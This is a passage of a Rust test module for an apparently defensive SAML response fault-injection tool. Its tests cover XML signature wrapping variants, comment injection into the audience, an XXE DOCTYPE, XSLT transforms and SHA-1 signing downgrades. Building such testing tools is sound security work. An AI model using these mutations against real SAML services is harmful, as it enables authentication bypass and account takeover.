            Err(MutationError::Missing(Target::Audience))
        );
        assert_eq!(
            MutationError::Missing(Target::AssertionDigestMethod).to_string(),
            "target `assertion-digest-method` not present"
        );
        ap(
            &mut r,
            Mutation::RemoveAttr {
                target: Target::Assertion,
                name: "ID".into(),
            },
        )
        .unwrap();
        assert_eq!(Target::Assertion.find_mut(&mut r).unwrap().attr("ID"), None);
    }

    fn count_assertions(e: &Element) -> usize {
        e.descendants()
            .iter()
            .filter(|d| d.local() == "Assertion")
            .count()
    }

    #[test]
    fn every_xsw_variant_adds_an_unsigned_assertion() {
        for v in 1..=8 {
            let mut r = resp();
            r.children.insert(
                0,
                Node::Element(Element::new("samlp:Status", Some(ns::SAMLP))),
            );
            r.children
                .insert(0, Node::Element(Element::new("ds:Signature", Some(ns::DS))));
            if let Some(a) = r.child_mut(ns::SAML, "Assertion") {
                a.children
                    .insert(0, Node::Element(Element::new("ds:Signature", Some(ns::DS))));
            }
            ap(&mut r, Mutation::Xsw { variant: v }).unwrap();
            assert!(count_assertions(&r) >= 2, "xsw{v}");
        }
        assert!(ap(&mut resp(), Mutation::Xsw { variant: 9 }).is_err());
    }

    #[test]
    fn comment_injection_and_raw_edits() {
        let mut r = resp();
        ap(
            &mut r,
            Mutation::InjectComment {
                target: Target::Audience,
            },
        )
        .unwrap();
        let aud = Target::Audience.find_mut(&mut r).unwrap();
        assert_eq!(aud.text(), "sp");
        assert!(aud.has_comment());
        let x = RawMutation::Doctype {
            kind: DoctypeKind::Xxe,
        }
        .apply("<samlp:Response><saml:NameID>n</saml:NameID></samlp:Response>")
        .unwrap();
        assert!(x.starts_with("<!DOCTYPE") && x.contains("&xxe;</saml:NameID>"));
        assert!(RawMutation::Append {
            text: "junk".into()
        }
        .apply("<r/>")
        .unwrap()
        .ends_with("junk"));
        // An edit whose anchor is absent is an error, never the honest message.
        let miss = RawMutation::ReplaceFirst {
            from: "<saml:Nowhere".into(),
            to: "x".into(),
        }
        .apply("<r/>");
        assert_eq!(
            miss,
            Err(RawMutationError::NotFound("<saml:Nowhere".into()))
        );
        for (edit, doc) in [
            (RawMutation::XmlDeclaration, "<?xml version=\"1.0\"?><r/>"),
            (
                RawMutation::Doctype {
                    kind: DoctypeKind::Internal,
                },
                "<!DOCTYPE r><r/>",
            ),
            (
                RawMutation::ReplaceFirst {
                    from: "<r".into(),
                    to: "<r".into(),
                },
                "<r/>",
            ),
            (RawMutation::Append { text: "".into() }, "<r/>"),
        ] {
            assert!(
                matches!(edit.apply(doc), Err(RawMutationError::NoEffect(_))),
                "{edit:?}"
            );
        }
    }

    #[test]
    fn every_mutation_reports_a_miss() {
        use Mutation::*;
        let t = |target| target;
        let misses = [
            SetAttr {
                target: t(Target::Status),
                name: "x".into(),
                value: "y".into(),
            },
            RemoveAttr {
                target: t(Target::Assertion),
                name: "Nope".into(),
            },
            SetText {
                target: t(Target::Status),
                value: "x".into(),
            },
            Remove {
                target: t(Target::Status),
            },
            Empty {
                target: t(Target::Status),
            },
            SetInstant {
                target: t(Target::Status),
                name: "x".into(),
                offset: 0,
                precision: Precision::Millis,
            },
            RemoveAttrEverywhere {
                element: "Attribute".into(),
                name: "NameFormat".into(),
            },
            InjectComment {
                target: t(Target::Subject),
            },
            InjectComment {
                target: t(Target::Status),
            },
            Xsw { variant: 1 },
            Xsw { variant: 5 },
            Xsw { variant: 6 },
            Xsw { variant: 7 },
            Xsw { variant: 8 },
            Xsw { variant: 9 },
            XsltTransform,
            SignedForeignElement,
            InsertXml {
                target: t(Target::Status),
                at: Position::LastChild,
                xml: "<x/>".into(),
            },
            InsertXml {
                target: t(Target::Response),
                at: Position::Before,
                xml: "<x/>".into(),
            },
            InsertXml {
                target: t(Target::Assertion),
                at: Position::After,
                xml: "<ds:Object/>".into(),
            },
            Rename {
                target: t(Target::Assertion),
                local: "Assertion".into(),
            },
            SetAttr {
                target: t(Target::Assertion),
                name: "ID".into(),
                value: "_a".into(),
            },
            SetText {
                target: t(Target::NameId),
                value: "n1".into(),
            },
        ];
        for m in misses {
            let mut r = resp();
            let before = r.clone();
            assert!(
                ap(&mut r, m.clone()).is_err(),
                "{m:?} did not report a miss"
            );
            assert_eq!(r, before, "{m:?} changed the tree although it missed");
        }
        // Without an Assertion, the Assertion edits miss too.
        let mut bare = Element::new("samlp:Response", Some(ns::SAMLP));
        assert!(ap(&mut bare, DuplicateAssertion).is_err());
        assert!(ap(&mut bare, Xsw { variant: 3 }).is_err());
        // A one-character text cannot be split by a comment.
        let mut r = resp();
        ap(
            &mut r,
            SetText {
                target: Target::NameId,
                value: "x".into(),
            },
        )
        .unwrap();
        assert!(matches!(
            ap(
                &mut r,
                InjectComment {
                    target: Target::NameId
                }
            ),
            Err(MutationError::Unusable(Target::NameId, _))
        ));
    }

    #[test]
    fn insert_xml_and_rename() {
        let mut r = resp();
        ap(
            &mut r,
            Mutation::InsertXml {
                target: Target::Assertion,
                at: Position::Before,
                xml: "<samlp:Extensions/>".into(),
            },
        )
        .unwrap();
        let first = r.elements().next().unwrap();
        assert!(first.is(ns::SAMLP, "Extensions"), "{}", first.qname);
        ap(
            &mut r,
            Mutation::InsertXml {
                target: Target::Assertion,
                at: Position::LastChild,
                xml: "<x><x/></x>".into(),
            },
        )
        .unwrap();
        assert!(r.to_xml().contains("<x><x/></x></saml:Assertion>"));
        ap(
            &mut r,
            Mutation::Rename {
                target: Target::Response,
                local: "LogoutResponse".into(),
            },
        )
        .unwrap();
        assert_eq!(r.qname, "samlp:LogoutResponse");
        // A fragment that does not parse strictly is an error, before any Response exists.
        let bad: FaultPlan = toml::from_str(
            "[[pre_sign]]\nop = \"insert-xml\"\ntarget = \"assertion\"\nxml = \"<x>\"\n",
        )
        .unwrap();
        let e = bad.check().unwrap_err();
        assert_eq!(
            (e.stage, e.number, e.op.as_str()),
            (Stage::PreSign, 1, "insert-xml")
        );
        assert!(
            e.to_string()
                .starts_with("plan.pre_sign edit #1 (insert-xml): fragment"),
            "{e}"
        );
    }

    #[test]
    fn stage_errors_name_stage_edit_and_target() {
        let plan: FaultPlan = toml::from_str(
            r#"
[[post_sign]]
op = "set-text"
target = "audience"
value = "x"
[[post_sign]]
op = "set-attr"
target = "assertion-digest-method"
name = "Algorithm"
value = "x"
"#,
        )
        .unwrap();
        let mut r = resp();
        let ctx = MutationCtx {
            now: spid_core::clock::now(),
            signed_foreign: None,
        };
        let e = apply_stage(&mut r, Stage::PostSign, &plan.post_sign, &ctx).unwrap_err();
        assert_eq!(
            e.to_string(),
            "plan.post_sign edit #2 (set-attr): target `assertion-digest-method` not present"
        );
        let raw = apply_raw(
            "<r/>".into(),
            &[RawMutation::ReplaceFirst {
                from: "<nowhere".into(),
                to: "x".into(),
            }],
        )
        .unwrap_err();
        assert!(
            raw.to_string()
                .starts_with("plan.raw edit #1 (replace-first): "),
            "{raw}"
        );
    }

    #[test]
    fn sign_spec_algorithms_default_to_sha256_and_parse() {
        let d = SignSpec::default().algorithms();
        assert_eq!(d.signature.uri(), ns::RSA_SHA256);
        assert_eq!(d.digest.uri(), ns::DIGEST_SHA256);
        let p: FaultPlan =
            toml::from_str("[sign]\nsignature_method = \"rsa-sha1\"\ndigest_method = \"sha1\"\n")
                .unwrap();
        assert_eq!(
            p.sign.algorithms().signature.uri(),
            "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
        );
        assert_eq!(
            p.sign.algorithms().digest.uri(),
            "http://www.w3.org/2000/09/xmldsig#sha1"
        );
        assert!(toml::from_str::<FaultPlan>("[sign]\ndigest_method = \"md5\"\n").is_err());
    }

    #[test]
    fn plan_parses_from_toml_and_refuses_unknown_keys() {
        let p: FaultPlan = toml::from_str(
            r#"
level = "L1"
[[pre_sign]]
op = "set-text"
target = "audience"
value = "x"
"#,
        )
        .unwrap();
        assert_eq!(p.level, Some(SpidLevel::L1));
        assert!(toml::from_str::<FaultPlan>("levle = \"L1\"").is_err());
        assert!(toml::from_str::<FaultPlan>("[[pre_sign]]\nop = \"explode\"").is_err());
    }
}
